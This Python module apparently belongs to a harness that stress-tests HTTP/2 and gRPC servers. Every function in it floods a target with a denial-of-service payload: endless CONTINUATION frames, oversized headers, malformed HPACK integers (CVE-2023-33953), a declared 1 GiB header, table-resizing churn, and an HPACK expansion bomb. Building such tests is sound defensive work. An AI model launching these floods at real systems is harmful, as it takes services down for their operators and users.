"""Headers that are long, many, or dear to read."""

import itertools

from attack import attack
from clients import SERVICE
from flood import Flood
import wire

HEARTBEAT = SERVICE + "Heartbeat"


def begun(stream, block):
    """A block of headers that is not over."""
    return wire.frame(wire.HEADERS, 0, stream, block)


def continued(block):
    return wire.frame(wire.CONTINUATION, 0, 3, block)


@attack()
def continuations(target, outcome):
    """a block of headers that never ends, in CONTINUATION frames"""
    header = wire.literal(b"x", b"y" * 100)
    Flood(target, wire.prelude() + begun(3, wire.call_headers(HEARTBEAT)),
          lambda: wire.blocks_of(continued(header * 50))).run(outcome)


@attack()
def small_continuations(target, outcome):
    """the same in frames of one small header, on four connections"""
    Flood(target, wire.prelude() + begun(3, wire.call_headers(HEARTBEAT)),
          lambda: wire.blocks_of(continued(wire.literal(b"x", b"y"))), 4).run(outcome)


@attack()
def empty_continuations(target, outcome):
    """the same in frames without a byte"""
    Flood(target, wire.prelude() + begun(3, wire.call_headers(HEARTBEAT)), lambda: wire.blocks_of(continued(b""))).run(outcome)


@attack()
def long_headers(target, outcome):
    """calls with 12 KiB of headers each: more than is taken"""
    headers = wire.REPEATED_HEADERS + wire.literal(b"x", b"y" * 12288)
    Flood(target, wire.prelude(HEARTBEAT), lambda: wire.blocks_of_calls(
        lambda stream: wire.call(stream, headers=headers), calls=100)).run(outcome)


@attack()
def hpack_zeros(target, outcome):
    """CVE-2023-33953: zeros without end before an integer, each frame of which has all read anew"""
    Flood(target, wire.prelude() + begun(3, b"\x83\x86\x7f\x80"), lambda: wire.blocks_of(continued(b"\x80" * 1000))).run(outcome)


@attack()
def hpack_long_string(target, outcome):
    """a header's text that is said to have 1 GiB, in frames of 16 KiB"""
    Flood(target, wire.prelude() + begun(3, b"\x83\x86\x00\x01x" + wire.integer(1 << 30, 7)),
          lambda: wire.blocks_of(continued(b"y" * 16384))).run(outcome)


@attack()
def hpack_resizing(target, outcome):
    """calls whose headers have the table emptied, made large and filled again"""
    resized = b"\x20\x3f\xe1\x1f" + wire.call_headers(HEARTBEAT, indexed=True)
    Flood(target, wire.prelude(HEARTBEAT), lambda: wire.blocks_of_calls(
        lambda stream: wire.call(stream, headers=resized) + wire.reset(stream))).run(outcome)


@attack()
def hpack_bomb(target, outcome):
    """calls whose 2,000 bytes of headers are 7 MB: one entry of the table again and again"""
    entry = wire.call(3, headers=wire.REPEATED_HEADERS + wire.literal(b"x", b"y" * 3500, indexed=True)) + wire.reset(3)
    Flood(target, wire.prelude(HEARTBEAT) + entry, lambda: wire.blocks_of_calls(
        lambda stream: wire.call(stream, headers=b"\xbe" * 2000), first=5, calls=500)).run(outcome)


@attack()
def hpack_nonsense(target, outcome):
    """headers that no table has, Huffman's code with errors, names with capitals and line feeds"""
    bad = (b"\xff\x80\x80\x01", b"\x00\x81\xff\x01y", wire.literal(b"X-Y", b"z"), wire.literal(b"x", b"a\r\nb"),
           wire.literal(b"x-bin", b"*!"), wire.literal(b"", b""), wire.literal(b":x", b"y"))
    # Each connection has another kind: most do not outlive one.
    kinds = itertools.cycle(bad)

    def blocks():
        headers = wire.REPEATED_HEADERS + next(kinds)
        return wire.blocks_of_calls(lambda stream: wire.call(stream, headers=headers) + wire.reset(stream), calls=100)
    Flood(target, wire.prelude(HEARTBEAT), blocks, 4).run(outcome)
